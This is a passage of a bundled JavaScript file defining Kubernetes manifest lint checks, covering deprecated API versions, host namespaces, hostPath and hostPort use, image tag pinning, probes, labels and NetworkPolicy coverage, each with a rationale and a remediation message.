            .filter((o) => o.kind === 'Kustomization' && (0, schema_1.isClientSideConfig)(o.apiVersion, o.kind) && typeof o.value.namespace === 'string')
            .map((o) => dirOf(o.file));
        for (const obj of ctx.objects) {
            if (workload_kinds_1.CLUSTER_SCOPED_KINDS.has(obj.kind) || (0, schema_1.isClientSideConfig)(obj.apiVersion, obj.kind))
                continue;
            // Custom resources may be cluster-scoped; only built-in kinds are known to be namespaced.
            if (!(0, schema_1.isBuiltInGroup)(obj.apiVersion) || obj.kind.endsWith('List'))
                continue;
            if (kustomizeDirs.some((d) => d === '' || obj.file === d || obj.file.startsWith(`${d}/`)))
                continue;
            const data = { kind: obj.kind, name: obj.name };
            if (obj.namespace === 'default')
                ctx.report({ messageId: 'explicitDefault', data, at: (0, yaml_tree_1.locate)(obj.root, ['metadata', 'namespace'], obj.loc) });
            else if (!obj.namespace)
                ctx.report({ messageId: 'missing', data, at: (0, yaml_tree_1.locate)(obj.root, ['metadata'], obj.loc) });
        }
    },
});


/***/ }),

/***/ 82053:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const deprecated_apis_1 = __webpack_require__(63565);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/deprecated-api-version',
    target: 'kubernetes-object',
    meta: {
        title: 'Manifest uses a removed API version',
        category: 'correctness',
        severity: 'error',
        rationale: 'Kubernetes stops serving beta API versions a few releases after their replacement ships; `kubectl apply` then fails with "no matches for kind", usually discovered during a cluster upgrade. kube-linter (no-extensions-v1beta) and Pluto report these.',
        remediation: 'Change `apiVersion` to the replacement named in the message and adjust the fields that changed (see the Kubernetes deprecation guide, or run `kubectl convert`).',
        messages: {
            removed: '{{kind}} "{{name}}" uses {{apiVersion}}, removed in Kubernetes {{removedIn}}: use {{replacement}}',
        },
    },
    check(ctx) {
        const hit = (0, deprecated_apis_1.removedApi)(ctx.object.apiVersion, ctx.object.kind);
        if (!hit)
            return;
        ctx.report({
            messageId: 'removed',
            data: { kind: ctx.object.kind, name: ctx.object.name, apiVersion: hit.apiVersion, removedIn: hit.removedIn, replacement: hit.replacement },
            at: ['apiVersion'],
        });
    },
});


/***/ }),

/***/ 26549:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/deprecated-service-account',
    target: 'kubernetes-object',
    meta: {
        title: 'Pod spec uses the deprecated serviceAccount field',
        category: 'correctness',
        severity: 'warning',
        rationale: '`serviceAccount` is a deprecated alias of `serviceAccountName`, kept only for old clients. When both are set and differ, which one the pod runs under depends on the API server version and the tool that applied it, so the permissions the reviewer approved may not be the ones the MCP server gets. kube-linter (deprecated-service-account-field) flags it.',
        remediation: 'Rename `serviceAccount` to `serviceAccountName` (and delete it where both are set).',
        messages: {
            deprecated: '{{object}} sets the deprecated serviceAccount field ("{{account}}"); use serviceAccountName',
            conflicting: '{{object}} sets serviceAccount "{{account}}" and serviceAccountName "{{name}}"; keep only serviceAccountName',
        },
    },
    check(ctx) {
        const spec = (0, objects_1.podSpecOf)(ctx.object);
        const specPath = (0, objects_1.podSpecPath)(ctx.object);
        if (!spec || !specPath || spec.serviceAccount === undefined || spec.serviceAccount === null)
            return;
        const account = spec.serviceAccount;
        if (typeof account !== 'string' || account === '')
            return;
        const name = spec.serviceAccountName;
        const at = [...specPath, 'serviceAccount'];
        const object = (0, objects_1.objectLabel)(ctx.object);
        if (typeof name === 'string' && name !== '' && name !== account)
            ctx.report({ messageId: 'conflicting', data: { object, account, name }, at });
        else
            ctx.report({ messageId: 'deprecated', data: { object, account }, at });
    },
});


/***/ }),

/***/ 65365:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/duplicate-env',
    target: 'kubernetes-object',
    meta: {
        title: 'Container sets the same environment variable twice',
        category: 'correctness',
        severity: 'warning',
        rationale: 'When `env` lists a name twice the later entry silently wins, so the value a reviewer reads first is not the one the MCP server gets, and a patch or merge that adds the second entry goes unnoticed. kube-linter (duplicate-env-var) flags it, and server-side apply rejects it.',
        remediation: "Keep one entry per name in each container's `env` and delete the other.",
        messages: {
            duplicate: '{{object}}: container "{{container}}" sets {{variable}} again (first set at {{firstLine}}); the last entry wins',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const env = c.value.env;
            if (!Array.isArray(env))
                continue;
            const first = new Map();
            env.forEach((e, i) => {
                if (!e || typeof e !== 'object')
                    return;
                const name = e.name;
                if (typeof name !== 'string' || name === '')
                    return;
                const previous = first.get(name);
                if (previous === undefined) {
                    first.set(name, i);
                    return;
                }
                const firstLine = (0, yaml_tree_1.getNode)(ctx.object.root, [...c.path, 'env', previous, 'name'])?.loc.line;
                ctx.report({
                    messageId: 'duplicate',
                    data: {
                        object: (0, objects_1.objectLabel)(ctx.object),
                        container: c.name,
                        variable: name,
                        firstLine: firstLine !== undefined ? `line ${firstLine}` : `entry ${previous + 1}`,
                    },
                    at: [...c.path, 'env', i, 'name'],
                });
            });
        }
    },
});


/***/ }),

/***/ 40100:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine for each chart it did not render (validate/helm-charts.ts). */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'kubernetes/helm-not-rendered',
    engine: 'helm',
    meta: {
        title: 'Helm chart templates were not rendered, so not checked',
        category: 'correctness',
        severity: 'info',
        rationale: "Files under a chart's templates/ are Go templates, not YAML: stackgate checks the objects they produce only when helm renders them. Without helm only Chart.yaml and values.yaml are checked, so a privileged container or a missing limit in a template goes unseen.",
        remediation: 'Install helm where validate runs (e.g. azure/setup-helm in the workflow) and keep kubernetes.helm at auto (or set it to always), or vendor the chart\'s dependencies in charts/ ("helm dependency build").',
        messages: { notRendered: 'Helm chart "{{chart}}": templates not rendered ({{reason}}); only Chart.yaml and values.yaml were checked' },
    },
});


/***/ }),

/***/ 3691:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine when `helm template` fails on a chart, or is required and missing (validate/helm-charts.ts). */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'kubernetes/helm-template',
    engine: 'helm',
    meta: {
        title: 'helm cannot render the chart (template error or invalid Chart.yaml)',
        category: 'correctness',
        severity: 'error',
        rationale: 'A chart that helm cannot render cannot be installed or upgraded: the release fails at deploy time, after the change was merged.',
        remediation: 'Run "helm template <chart-dir>" (or "helm lint") locally and fix the template, value or Chart.yaml field it names; set kubernetes.helm to auto where helm is not installed.',
        messages: {
            failed: 'helm template {{chart}} failed: {{detail}}',
            invalidChart: 'Helm chart "{{chart}}": {{detail}}',
            unavailable: 'Helm chart "{{chart}}" cannot be rendered: kubernetes.helm is "always" but helm is not installed',
        },
    },
});


/***/ }),

/***/ 50998:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const helm_values_1 = __webpack_require__(49861);
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/helm-values-unchecked',
    target: 'kubernetes-object',
    meta: {
        title: 'Helm values of a HelmRelease or Argo CD Application were not checked',
        category: 'security',
        severity: 'info',
        rationale: 'The pod-spec checks (privileged, dangerous capabilities, host namespaces, image tags) read the Helm values a Flux HelmRelease or an Argo CD Application passes to its chart. Values they cannot read, a `values` string that is not YAML or values taken from a ConfigMap, a Secret or a file of the chart repository, are not checked, and a clean result says nothing about them.',
        remediation: 'Write the values in the manifest (`spec.values`, `helm.valuesObject`, or a `helm.values` block that is valid YAML), or check the chart with its values where they live (a chart in the repository is rendered by `helm template`).',
        messages: {
            notYaml: '{{object}}: Helm values in {{field}} were not checked: they do not parse as YAML ({{detail}})',
            external: '{{object}}: Helm values from {{field}} ({{detail}}) are not in the repository manifest and were not checked',
        },
    },
    check(ctx) {
        for (const u of (0, helm_values_1.helmValuesOf)(ctx.object).unchecked) {
            ctx.report({
                messageId: u.reason === 'not-yaml' ? 'notYaml' : 'external',
                data: { object: (0, objects_1.objectLabel)(ctx.object), field: u.field, detail: u.detail },
                at: u.at,
            });
        }
    },
});


/***/ }),

/***/ 18079:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const helm_values_settings_1 = __webpack_require__(3439);
const types_1 = __webpack_require__(15200);
const FIELDS = [
    ['hostNetwork', 'the node network namespace: it can bind node ports and reach services listening on localhost'],
    ['hostPID', 'the node process namespace: it can see and signal every process on the node'],
    ['hostIPC', 'the node IPC namespace: it can read shared memory of other processes'],
];
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/host-namespaces',
    target: 'kubernetes-object',
    meta: {
        title: 'Pod shares a host namespace',
        category: 'security',
        severity: 'error',
        rationale: 'hostNetwork, hostPID and hostIPC remove the isolation between the pod and the node: a compromised MCP server can sniff node traffic, inspect other processes or bypass NetworkPolicies. kube-linter (host-network, host-pid, host-ipc), Polaris (hostNetworkSet, hostPIDSet, hostIPCSet) and the "baseline" Pod Security Standard reject them.',
        remediation: 'Remove `hostNetwork`, `hostPID` and `hostIPC` from the pod spec (or set them to false); expose the server through a Service instead.',
        messages: {
            shared: '{{object}} sets {{field}}: true and shares {{detail}}',
            helmValues: "{{object}}: Helm values {{field}} set {{setting}}: true, so the chart's pods share {{detail}}",
        },
    },
    check(ctx) {
        for (const ref of (0, helm_values_settings_1.helmValuesSettingsOf)(ctx.object, 'host-namespace')) {
            const detail = FIELDS.find(([field]) => field === ref.setting.field)?.[1] ?? 'a node namespace';
            ctx.report({ messageId: 'helmValues', data: { object: (0, objects_1.objectLabel)(ctx.object), field: ref.field, setting: ref.name, detail }, at: ref.at });
        }
        const spec = (0, objects_1.podSpecOf)(ctx.object);
        const specPath = (0, objects_1.podSpecPath)(ctx.object);
        if (!spec || !specPath)
            return;
        for (const [field, detail] of FIELDS) {
            if (spec[field] !== true)
                continue;
            ctx.report({ messageId: 'shared', data: { object: (0, objects_1.objectLabel)(ctx.object), field, detail }, at: [...specPath, field] });
        }
    },
});


/***/ }),

/***/ 47664:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const host_paths_1 = __webpack_require__(91149);
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/host-path',
    target: 'kubernetes-object',
    meta: {
        title: 'Pod mounts a hostPath volume',
        category: 'security',
        severity: 'warning',
        rationale: 'A hostPath volume ties the pod to one node\'s filesystem: data disappears when the pod moves, and write access to the host is a common escape route. Polaris (hostPathSet) flags any hostPath; the "baseline" Pod Security Standard forbids them. Sensitive paths are reported by kubernetes/sensitive-host-path.',
        remediation: 'Use a PersistentVolumeClaim for data, a ConfigMap or Secret for configuration, or an emptyDir for scratch space.',
        messages: {
            hostPath: '{{object}}: volume "{{volume}}" mounts host path {{path}}',
        },
    },
    check(ctx) {
        for (const v of (0, host_paths_1.hostPathVolumes)(ctx.object)) {
            if ((0, host_paths_1.isSensitiveHostPath)(v.path))
                continue;
            ctx.report({ messageId: 'hostPath', data: { object: (0, objects_1.objectLabel)(ctx.object), volume: v.volume, path: v.path || '(empty)' }, at: v.at });
        }
    },
});


/***/ }),

/***/ 13116:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const display_value_1 = __webpack_require__(42785);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/host-port',
    target: 'kubernetes-object',
    meta: {
        title: 'Container binds a host port',
        category: 'security',
        severity: 'warning',
        rationale: "A hostPort exposes the container on the node's address, bypassing Services and NetworkPolicies, and limits scheduling to one such pod per node, so rolling updates and scale-ups stall. Polaris (hostPortSet) flags it.",
        remediation: 'Remove `hostPort` and expose the server with a Service (ClusterIP behind an Ingress, or LoadBalancer/NodePort).',
        messages: {
            hostPort: '{{object}}: container "{{container}}" binds host port {{port}}',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const ports = c.value.ports;
            if (!Array.isArray(ports))
                continue;
            ports.forEach((p, i) => {
                if (!p || typeof p !== 'object')
                    return;
                const hostPort = p.hostPort;
                if (hostPort === undefined || hostPort === null || hostPort === 0)
                    return;
                ctx.report({
                    messageId: 'hostPort',
                    data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, port: (0, display_value_1.displayValue)(hostPort) },
                    at: [...c.path, 'ports', i, 'hostPort'],
                });
            });
        }
    },
});


/***/ }),

/***/ 58245:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const canonical_json_1 = __webpack_require__(60484);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/identical-probes',
    target: 'kubernetes-object',
    meta: {
        title: 'Liveness probe is identical to the readiness probe',
        category: 'reliability',
        severity: 'info',
        rationale: 'When liveness and readiness are the same check, a server that is briefly overloaded or waiting for a backend is not just taken out of the Service: it is restarted too, which turns a slow dependency into a crash loop across every replica at once. Identical probes are common and fine for simple servers without dependencies, so this is info.',
        remediation: 'Make the liveness probe check only that the process responds (e.g. /healthz) and the readiness probe that it can serve (e.g. /ready), or give liveness a higher failureThreshold.',
        messages: {
            identical: '{{object}}: container "{{container}}" uses the same check for livenessProbe and readinessProbe',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.probedContainersOf)(ctx.object)) {
            const { livenessProbe, readinessProbe } = c.value;
            if (!livenessProbe || typeof livenessProbe !== 'object' || !readinessProbe || typeof readinessProbe !== 'object')
                continue;
            if ((0, canonical_json_1.canonicalJson)(livenessProbe) !== (0, canonical_json_1.canonicalJson)(readinessProbe))
                continue;
            ctx.report({ messageId: 'identical', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at: [...c.path, 'livenessProbe'] });
        }
    },
});


/***/ }),

/***/ 85944:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const image_reference_1 = __webpack_require__(78605);
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/image-digest',
    target: 'kubernetes-object',
    meta: {
        title: 'Container image is not pinned by digest',
        category: 'supply-chain',
        severity: 'info',
        rationale: 'Tags can be moved or overwritten in the registry, so `mcp-server:1.4.2` today may not be the image that was scanned and signed. A digest makes the deployment reproducible and is what admission policies (cosign, Kyverno verifyImages) check.',
        remediation: 'Reference the image by digest, keeping the tag for readers: `ghcr.io/acme/mcp-server:1.4.2@sha256:<digest>` (Renovate and kustomize `images:` can maintain it).',
        messages: {
            noDigest: '{{object}}: container "{{container}}" image "{{image}}" is not pinned by digest',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const image = c.value.image;
            if (typeof image !== 'string' || !image.trim() || (0, image_reference_1.isTemplated)(image))
                continue;
            if ((0, image_reference_1.parseImageReference)(image).digest)
                continue;
            ctx.report({ messageId: 'noDigest', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, image }, at: [...c.path, 'image'] });
        }
    },
});


/***/ }),

/***/ 13754:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const image_reference_1 = __webpack_require__(78605);
const helm_values_settings_1 = __webpack_require__(3439);
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/image-latest-tag',
    target: 'kubernetes-object',
    meta: {
        title: 'Container image is untagged or uses :latest',
        category: 'supply-chain',
        severity: 'error',
        rationale: 'A mutable tag means two pods of the same Deployment can run different code, a rollback does not roll anything back, and a node restart silently upgrades the MCP server. kube-linter (latest-tag) and Polaris (tagNotSpecified) flag it.',
        remediation: 'Pin a version tag built by CI (`ghcr.io/acme/mcp-server:1.4.2`), ideally with its digest (`...:1.4.2@sha256:...`).',
        messages: {
            untagged: '{{object}}: container "{{container}}" image "{{image}}" has no tag (defaults to :latest)',
            latest: '{{object}}: container "{{container}}" image "{{image}}" uses the mutable :latest tag',
            missing: '{{object}}: container "{{container}}" has no image',
            helmValuesUntagged: '{{object}}: Helm values {{field}} set image "{{image}}" ({{setting}}) without a tag (defaults to :latest)',
            helmValuesLatest: '{{object}}: Helm values {{field}} set image "{{image}}" ({{setting}}) with the mutable :latest tag',
        },
    },
    check(ctx) {
        for (const ref of (0, helm_values_settings_1.helmValuesSettingsOf)(ctx.object, 'image')) {
            const data = { object: (0, objects_1.objectLabel)(ctx.object), field: ref.field, setting: ref.name, image: ref.setting.image };
            ctx.report({ messageId: ref.setting.problem === 'latest' ? 'helmValuesLatest' : 'helmValuesUntagged', data, at: ref.at });
        }
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const image = c.value.image;
            const data = { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, image: String(image ?? '') };
            if (typeof image !== 'string' || !image.trim()) {
                if (c.kind !== 'ephemeralContainer')
                    ctx.report({ messageId: 'missing', data, at: c.path });
                continue;
            }
            if ((0, image_reference_1.isTemplated)(image))
                continue;
            const ref = (0, image_reference_1.parseImageReference)(image);
            if (ref.digest)
                continue;
            if (ref.tag === undefined)
                ctx.report({ messageId: 'untagged', data, at: [...c.path, 'image'] });
            else if (ref.tag === 'latest')
                ctx.report({ messageId: 'latest', data, at: [...c.path, 'image'] });
        }
    },
});


/***/ }),

/***/ 72934:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/image-pull-policy',
    target: 'kubernetes-object',
    meta: {
        title: 'Container never pulls its image',
        category: 'reliability',
        severity: 'warning',
        rationale: '`imagePullPolicy: Never` only works on nodes where someone loaded the image by hand (kind, minikube); on a real cluster new or replaced nodes cannot start the pod (ErrImageNeverPull), so a node rotation takes the MCP server down.',
        remediation: 'Use `imagePullPolicy: IfNotPresent` with an immutable tag or digest (or omit the field).',
        messages: {
            never: '{{object}}: container "{{container}}" sets imagePullPolicy: Never',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (c.value.imagePullPolicy !== 'Never')
                continue;
            ctx.report({ messageId: 'never', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at: [...c.path, 'imagePullPolicy'] });
        }
    },
});


/***/ }),

/***/ 33576:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files (source/workspace.ts, kubernetes/incomplete-manifest.ts). */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'kubernetes/incomplete-manifest',
    engine: 'file-problem',
    meta: {
        title: 'Manifest has no apiVersion or no kind',
        category: 'correctness',
        severity: 'error',
        rationale: 'kubectl apply and a GitOps sync fail on a document with metadata but without `apiVersion` or `kind`; usually a line lost in a merge or an indentation slip. Such a document is not recognised as a Kubernetes object, so no other check looks at it: this finding is the only sign.',
        remediation: 'Add the missing field (`kubectl explain <kind>` and `kubectl api-resources` give the apiVersion of a kind), or fix the indentation that moved it.',
        messages: { incomplete: '{{detail}}' },
    },
});


/***/ }),

/***/ 24584:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine when `kubectl kustomize` fails on an overlay, or is required and missing (validate/kustomize-overlays.ts). */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'kubernetes/kustomize-build',
    engine: 'kustomize',
    meta: {
        title: 'kubectl kustomize fails on the overlay',
        category: 'correctness',
        severity: 'error',
        rationale: 'An overlay that kustomize cannot build cannot be applied: kubectl apply -k, Argo CD and Flux all fail on it at deploy time, after the change was merged.',
        remediation: 'Run "kubectl kustomize <dir>" locally and fix the resource, patch or generator it names. Set kubernetes.kustomize to never (or auto where kubectl is not installed) to check the files as written instead.',
        messages: {
            failed: 'kubectl kustomize {{dir}} failed: {{detail}}',
            unavailable: 'the overlay {{dir}} cannot be built: kubernetes.kustomize is "always" but kubectl is not installed',
        },
    },
});


/***/ }),

/***/ 51150:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const workload_kinds_1 = __webpack_require__(75581);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/liveness-probe',
    target: 'kubernetes-object',
    meta: {
        title: 'Container has no liveness probe',
        category: 'reliability',
        severity: 'warning',
        rationale: 'Without a liveness probe Kubernetes restarts an MCP server only when its process exits; a server deadlocked on a stuck tool call or an exhausted connection pool keeps its pod Running and keeps failing requests. Polaris (livenessProbeMissing) and kube-linter (no-liveness-probe) flag it. The probes of sidecars a service mesh injects (istio-proxy, linkerd-proxy) belong to the mesh and are not checked.',
        remediation: 'Add a `livenessProbe` that checks the process is responsive, e.g. `httpGet: { path: /healthz, port: http }` with `periodSeconds: 10` and `failureThreshold: 3`. Keep it cheaper than the readiness probe and independent of downstream services.',
        messages: {
            missing: '{{object}}: container "{{container}}" has no livenessProbe',
        },
    },
    check(ctx) {
        if (!workload_kinds_1.LONG_RUNNING_KINDS.has(ctx.object.kind))
            return;
        for (const c of (0, objects_1.probedContainersOf)(ctx.object)) {
            if (c.kind !== 'container')
                continue;
            if (c.value.livenessProbe && typeof c.value.livenessProbe === 'object')
                continue;
            ctx.report({ messageId: 'missing', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at: c.path });
        }
    },
});


/***/ }),

/***/ 55752:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
const NAME_LABELS = ['app.kubernetes.io/name', 'app'];
const LABELLED_KINDS = new Set(['Service', 'Ingress', 'HorizontalPodAutoscaler', 'PodDisruptionBudget']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/missing-labels',
    target: 'kubernetes-object',
    meta: {
        title: 'Object has no app name label',
        category: 'operations',
        severity: 'info',
        rationale: 'Dashboards, log queries, alert routing, `kubectl get -l` and cost reports group objects by the recommended `app.kubernetes.io/name` label (or the older `app`). An unlabelled MCP server disappears from all of them, and its pods cannot be selected reliably by Services and policies.',
        remediation: 'Add `app.kubernetes.io/name: <app>` (plus `app.kubernetes.io/part-of`, `app.kubernetes.io/version` as useful) to metadata.labels and to the pod template labels.',
        messages: {
            object: '{{object}} has no app.kubernetes.io/name or app label',
            podTemplate: '{{object}}: pod template has no app.kubernetes.io/name or app label',
        },
    },
    check(ctx) {
        const obj = ctx.object;
        if (!(0, objects_1.isWorkload)(obj) && !LABELLED_KINDS.has(obj.kind))
            return;
        const labels = (0, objects_1.asStringMap)(obj.value.metadata?.labels);
        if (!NAME_LABELS.some((l) => labels[l]))
            ctx.report({ messageId: 'object', data: { object: (0, objects_1.objectLabel)(obj) }, at: ['metadata', 'labels'] });
        const tpl = (0, objects_1.podTemplatePath)(obj);
        if (tpl && !NAME_LABELS.some((l) => (0, objects_1.podLabelsOf)(obj)[l])) {
            ctx.report({ messageId: 'podTemplate', data: { object: (0, objects_1.objectLabel)(obj) }, at: [...tpl, 'metadata', 'labels'] });
        }
    },
});


/***/ }),

/***/ 27881:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
function isEmpty(v) {
    return v === undefined || v === null || (Array.isArray(v) && v.length === 0);
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/network-policy-allow-all',
    target: 'kubernetes-object',
    meta: {
        title: 'NetworkPolicy allows all ingress',
        category: 'security',
        severity: 'warning',
        rationale: 'An ingress rule with neither `from` nor `ports` (`ingress: [{}]`) admits every source on every port: the policy looks like isolation in review, and the coverage check counts the pods as protected, yet any pod in the cluster (and anything routed into it) can call the MCP server. Policies are additive, so the rule also cancels every narrower rule selecting the same pods.',
        remediation: "List the allowed sources in `from` (the gateway's podSelector, the ingress controller's namespaceSelector) and the server's port in `ports`. If allowing everything is intended, delete the policy rather than keep one that only looks restrictive.",
        messages: {
            allowAll: '{{object}}: ingress rule {{rule}} has no `from` and no `ports`, so it allows all traffic to {{pods}}',
        },
    },
    check(ctx) {
        const obj = ctx.object;
        if (obj.kind !== 'NetworkPolicy' || !obj.apiVersion.startsWith('networking.k8s.io/'))
            return;
        const spec = obj.value.spec;
        if (!spec || typeof spec !== 'object')
            return;
        const ingress = spec.ingress;
        if (!Array.isArray(ingress))
            return;
        const types = spec.policyTypes;
        if (Array.isArray(types) && !types.includes('Ingress'))
            return;
        const selector = spec.podSelector;
        const pods = selector && typeof selector === 'object' && selector.matchLabels && typeof selector.matchLabels === 'object' && Object.keys(selector.matchLabels).length
            ? `pods with ${Object.entries(selector.matchLabels)
                .map(([k, v]) => `${k}=${typeof v === 'string' || typeof v === 'number' ? v : '…'}`)
                .join(', ')}`
            : 'the selected pods';
        ingress.forEach((rule, i) => {
            if (rule === null || rule === undefined) {
                ctx.report({ messageId: 'allowAll', data: { object: (0, objects_1.objectLabel)(obj), rule: `#${i + 1}`, pods }, at: ['spec', 'ingress', i] });
                return;
            }
            if (typeof rule !== 'object' || Array.isArray(rule))
                return;
            const { from, ports } = rule;
            if (!isEmpty(from) || !isEmpty(ports))
                return;
            ctx.report({ messageId: 'allowAll', data: { object: (0, objects_1.objectLabel)(obj), rule: `#${i + 1}`, pods }, at: ['spec', 'ingress', i] });
        });
    },
});


/***/ }),

/***/ 69782:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const label_selector_1 = __webpack_require__(83758);
const objects_1 = __webpack_require__(35704);
const schema_1 = __webpack_require__(80757);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
/** Whether a NetworkPolicy restricts ingress (policyTypes defaults to Ingress). */
function governsIngress(policy) {
    const types = policy.value.spec?.policyTypes;
    return !Array.isArray(types) || types.includes('Ingress');
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/network-policy-coverage',
    target: 'kubernetes-set',
    meta: {
        title: 'Workload is not covered by a NetworkPolicy',
        category: 'security',
        severity: 'warning',
        productionOnly: true,
        rationale: "Pods not selected by any ingress NetworkPolicy accept connections from every pod in the cluster, so one compromised workload can call the MCP server's tools directly, bypassing the gateway and its authentication. Reported once per workload, at its definition, so each finding names the pods left open and can be suppressed where an exception is intended. A workload in a namespace where the repository defines no policy at all, and that no environment marks as production and is no MCP server (an install manifest, an example), is reported at info: the cluster's own policies may cover it. (Polaris and kube-linter only check that policies are not dangling; this check is stricter.)",
        remediation: "Add a default-deny policy to the namespace (`podSelector: {}` with `policyTypes: [Ingress]`) plus a policy that allows only the gateway or ingress controller to reach the server's port.",
        messages: {
            uncovered: '{{object}} is not selected by any ingress NetworkPolicy{{namespace}}: every pod in the cluster can connect to it',
            noPolicyHere: '{{object}} is not selected by any ingress NetworkPolicy of this repository{{namespace}}, which defines none there: unless the cluster adds one, every pod in the cluster can connect to it',
        },
    },
    check(ctx) {
        // Policies of CNI-specific kinds (CiliumNetworkPolicy, Calico) have their own selector languages; do not guess.
        if (ctx.objects.some((o) => /NetworkPolicy$/.test(o.kind) && (0, schema_1.groupOf)(o.apiVersion) !== 'networking.k8s.io'))
            return;
        const policies = ctx.objects.filter((o) => o.kind === 'NetworkPolicy' && governsIngress(o));
        for (const obj of ctx.objects) {
            if (!(0, objects_1.isWorkload)(obj) || !ctx.isProduction(obj))
                continue;
            const labels = (0, objects_1.podLabelsOf)(obj);
            if (policies.some((p) => (0, label_selector_1.sameNamespace)(p, obj) && (0, label_selector_1.matchesLabelSelector)(p.value.spec?.podSelector, labels)))
                continue;
            const namespace = obj.namespace ? ` in namespace ${obj.namespace}` : '';
            const at = (0, yaml_tree_1.locate)(obj.root, ['metadata', 'name'], obj.loc);
            // Where the repository has no policy in the namespace and does not say the workload serves
            // production (an install manifest, an example), the cluster's own policies may cover it: info.
            if (!ctx.isKnownProduction(obj) && !policies.some((p) => (0, label_selector_1.sameNamespace)(p, obj))) {
                ctx.report({ messageId: 'noPolicyHere', data: { object: (0, objects_1.objectLabel)(obj), namespace }, at, atInfo: true });
                continue;
            }
            ctx.report({ messageId: 'uncovered', data: { object: (0, objects_1.objectLabel)(obj), namespace }, at });
        }
    },
});


/***/ }),

/***/ 957:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


